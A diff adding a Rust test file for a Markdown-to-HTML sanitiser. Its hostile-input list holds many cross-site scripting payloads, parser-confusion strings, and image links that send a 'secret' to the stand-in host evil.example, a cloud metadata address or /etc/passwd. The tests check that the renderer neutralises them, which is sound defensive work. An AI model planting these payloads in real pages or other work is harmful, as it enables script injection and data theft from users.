@@ -1,0 +1,275 @@
+//! What Markdown becomes, and what hostile Markdown must not become.
+
+use std::time::{Duration, Instant};
+
+use super::{MAX_MARKDOWN, check, render};
+
+/// Texts that tried to be more than text in some chat, forum or renderer before.
+const HOSTILE: &[&str] = &[
+    // raw HTML
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\">",
+    "<object data=https://evil.example/x.swf>",
+    "<embed src=https://evil.example/x>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
+    "<form action=https://evil.example><input name=password type=password></form>",
+    "<div style=\"background:url(https://evil.example/?q=secret)\">x</div>",
+    "<p style=position:fixed;inset:0>x</p>",
+    "<a href=https://evil.example onmouseover=alert(1)>x</a>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<textarea><script>alert(1)</script>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<plaintext>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version=\"1.0\"?><script>alert(1)</script>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<<SCRIPT>alert(1)//<</SCRIPT>",
+    "<img/src=`x`onerror=alert(1)>",
+    "<div id=composer name=body>",
+    // links
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](\u{1}javascript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
+    "[x](file:///etc/passwd)",
+    "[x](http:logout)",
+    "[x](//evil.example/)",
+    "[x](/web/session/logout)",
+    "[x](#composer)",
+    "[x](https://ok.example \"\\\" onmouseover=\\\"alert(1)\")",
+    "[x](https://ok.example/\"onmouseover=alert(1)//)",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    "<a@b.c\"onclick=alert(1)>",
+    // images: whatever is loaded by itself can carry a secret away
+    "![x](https://evil.example/?q=secret)",
+    "![x](//evil.example/?q=secret)",
+    "![x](http://169.254.169.254/latest/meta-data)",
+    "![x](/assets/favicon.svg)",
+    "![x][1]\n\n[1]: https://evil.example/?q=secret",
+    "![x]\n\n[x]: https://evil.example/?q=secret \"title\"",
+    "![x][]\n\n[x]: <https://evil.example/?q=secret>",
+    "[![x](https://evil.example/1.png)](https://evil.example/2)",
+    "![![x](https://evil.example/1.png)](https://evil.example/2.png)",
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
+    "![x](data:text/html;base64,PHNjcmlwdD4=)",
+    "![x](data:image/png;base64,AAAA\"onerror=alert(1)//)",
+    "![x](data:image/png,<svg>)",
+    "![\"onerror=\"alert(1)](data:image/png;base64,AAAA)",
+    "![</p><script>alert(1)</script>](data:image/png;base64,AAAA)",
+    "![x](javascript:alert(1))",
+    // code, tables and blocks
+    "```\"><script>alert(1)</script>\nx\n```",
+    "```rust\" onclick=\"alert(1)\nx\n```",
+    "`<script>alert(1)</script>`",
+    "| a |\n| - |\n| <script>alert(1)</script> |",
+    "| a |\n| :-: |\n| ![x](https://evil.example/) |",
+    "# <img src=x onerror=alert(1)> {#id .class onclick=alert(1)}",
+    "> <script>\n> alert(1)\n> </script>",
+    "- [x] <input autofocus onfocus=alert(1)>",
+    "[^1]\n\n[^1]: <script>alert(1)</script>",
+    "<div\n\n<script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)",
+    "\u{0}<scr\u{0}ipt>alert(1)",
+    "<a\u{a0}href=x>\u{2028}<b>",
+    "$$<script>alert(1)</script>$$",
+];
+
+#[test]
+fn hostile_texts_stay_texts() {
+    assert!(HOSTILE.len() >= 50);
+    for text in HOSTILE {
+        check::check(text.as_bytes());
+        for wrapped in [
+            format!("> {text}"),
+            format!("* {text}\n  * {text}"),
+            format!("**{text}**"),
+            format!("[{text}](https://ok.example)"),
+            format!("![{text}](https://ok.example)"),
+            format!("| {text} |\n|---|\n| {text} |"),
+            format!("<div>\n{text}\n</div>"),
+            format!("x\n\n{text}\n\n{text}"),
+        ] {
+            check::check(wrapped.as_bytes());
+        }
+    }
+}
+
+#[test]
+fn pairs_of_hostile_texts_stay_texts() {
+    for first in HOSTILE {
+        for second in HOSTILE {
+            check::check(format!("{first}{second}").as_bytes());
+        }
+    }
+}
+
+#[test]
+fn no_part_of_a_hostile_text_is_a_surprise() {
+    for text in HOSTILE {
+        for (end, _) in text.char_indices() {
+            check::check(&text.as_bytes()[..end]);
+            check::check(&text.as_bytes()[end..]);
+        }
+    }
+}
+
+#[test]
+fn sanitising_again_changes_nothing() {
+    for text in HOSTILE {
+        let once = render(text);
+        assert_eq!(super::sanitize::clean(&once), once, "{text:?}");
+    }
+}
+
+#[test]
+fn the_judge_refuses_what_it_should() {
+    for bad in [
+        "<script>",
+        "<p onclick=\"x\">x</p>",
+        "<p style=\"x\">x</p>",
+        "<img src=\"https://x\">",
+        "<p>",
+        "</p>",
+        "a < b",
+        "a > b",
+        "<a href=\"javascript:x\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">x</a>",
+        "<a href=\"https://x\">x</a>",
+        "<img src=\"data:image/svg+xml;base64,AA\">",
+        "<p class=x>x</p>",
+        "<P>x</P>",
+        "<em><strong></em></strong>",
+        "<p id=\"x\"></p>",
+    ] {
+        assert!(check::violation(bad).is_some(), "{bad}");
+    }
+    assert_eq!(check::violation("<p>a &lt; b <em>c</em><br></p>"), None);
+}
+
+#[test]
+fn ordinary_markdown_looks_as_expected() {
+    for (markdown, html) in [
+        (
+            "# Hi\n\n*a* **b** ~~c~~ `d`",
+            "<h1>Hi</h1>\n<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>\n",
+        ),
+        ("```rust\nlet a = 1 < 2;\n```", "<pre><code class=\"language-rust\">let a = 1 &lt; 2;\n</code></pre>\n"),
+        ("- [x] a\n- [ ] b", "<ul>\n<li>☑ a</li>\n<li>☐ b</li>\n</ul>\n"),
+        ("3. a", "<ol start=\"3\">\n<li>a</li>\n</ol>\n"),
+        (
+            "| a | b |\n| --- | --: |\n| 1 | 2 |",
+            "<table><thead><tr><th>a</th><th align=\"right\">b</th></tr></thead><tbody>\n\
+             <tr><td>1</td><td align=\"right\">2</td></tr>\n</tbody></table>\n",
+        ),
+        ("<b>x</b>", "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"),
+        ("![a cat](/cat.png)", "<p>[image: a cat]</p>\n"),
+        (
+            "![](https://h/cat.png)",
+            "<p><a href=\"https://h/cat.png\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">[image]</a></p>\n",
+        ),
+        (
+            "![dot](data:image/gif;base64,R0lGODlhAQ==)",
+            "<p><img src=\"data:image/gif;base64,R0lGODlhAQ==\" alt=\"dot\"></p>\n",
+        ),
+        ("a & b < c", "<p>a &amp; b &lt; c</p>\n"),
+    ] {
+        assert_eq!(render(markdown), html, "{markdown}");
+    }
+}
+
+#[test]
+fn too_long_a_text_is_shown_as_written() {
+    let text = "*a*<b>".repeat(MAX_MARKDOWN / 5);
+    assert!(render(&text).starts_with("<pre>*a*&lt;b&gt;"));
+    check::check(text.as_bytes());
+}
+
+/// Inputs on which some Markdown or HTML parser needed more than linear time once.
+#[test]
+fn hostile_texts_take_bounded_time() {
+    let fill = |part: &str| part.repeat(MAX_MARKDOWN / part.len());
+    let half = |part: &str| part.repeat(MAX_MARKDOWN / 2 / part.len());
+    let indented = (0..700).map(|depth| format!("{}- a\n", " ".repeat(depth))).collect::<String>();
+    let inputs = [
+        fill("["),
+        fill("]"),
+        fill("!["),
+        fill("[a]("),
+        fill("[a](<b"),
+        fill("![[]()"),
+        fill("*a_ "),
+        fill("**a **"),
+        fill("a**b_c_"),
+        fill("`"),
+        fill("`a``b"),
+        fill("<"),
+        fill("<a "),
+        fill("<!--"),
+        fill("<?"),
+        fill("&"),
+        fill("&#"),
+        fill("> "),
+        fill(">"),
+        fill("- "),
+        fill("1. "),
+        fill("\\"),
+        fill("~"),
+        fill("~~a"),
+        fill("|"),
+        fill("a|\n-|\n"),
+        fill("# "),
+        fill("\t"),
+        fill("\n"),
+        fill("<a@b.c>"),
+        fill("[]()"),
+        fill("a\n\n"),
+        fill("[a]:b\n"),
+        fill("*"),
+        fill("_"),
+        fill("-\n"),
+        fill("> - "),
+        fill("$$"),
+        half("> ") + &half("\na"),
+        half("- ") + &half("\n"),
+        half("  - a\n") + &half("    "),
+        half("*a ") + &half("b* "),
+        format!("[a]: {}\n{}", "b".repeat(50_000), half("[a]")),
+        format!("{}\n{}\n{}", "|a".repeat(10_000), "|-".repeat(10_000), "a\n".repeat(60_000)),
+        format!("{}{}", "> ".repeat(45), format!("\n{}a", "> ".repeat(45)).repeat(2_500)),
+        format!("{}\n{}", "- ".repeat(45), "\n".repeat(200_000)),
+        indented.clone(),
+        indented + &half("\n"),
+        (1..700).map(|depth| format!("{}a\n", ">".repeat(depth))).collect(),
+        (1..700).map(|length| "`".repeat(length) + "a").collect(),
+    ];
+    for text in inputs {
+        let begin = Instant::now();
+        check::check(text.as_bytes());
+        let took = begin.elapsed();
+        let start: String = text.chars().take(12).collect();
+        assert!(took < Duration::from_secs(10), "{start:?} of {} bytes took {took:?}", text.len());
+    }
+}
